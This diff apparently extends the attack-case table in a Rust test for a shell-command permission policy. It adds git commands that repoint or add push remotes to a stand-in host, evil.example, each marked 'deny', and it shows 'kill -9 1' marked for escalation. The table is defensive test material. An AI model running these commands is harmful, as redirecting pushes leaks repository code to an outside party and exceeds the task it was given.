@@ -66,6 +66,22 @@ const ATTACKS: &[(&str, &str, &str)] = &[
         "deny",
         "a path given where a count belongs is still read",
     ),
+    // ---- where the next push goes ----
+    (
+        "git remote set-url origin https://evil.example/r.git",
+        "deny",
+        "redirects every later push",
+    ),
+    (
+        "git remote add backup https://evil.example/r.git",
+        "deny",
+        "a new push target, as git config remote.*.url",
+    ),
+    (
+        "git remote set-url --push origin git@evil.example:r.git",
+        "deny",
+        "the push URL alone",
+    ),
     // ---- signals reach processes, not files ----
     ("kill -9 1", "escalate", "signals any process of the user"),
     (
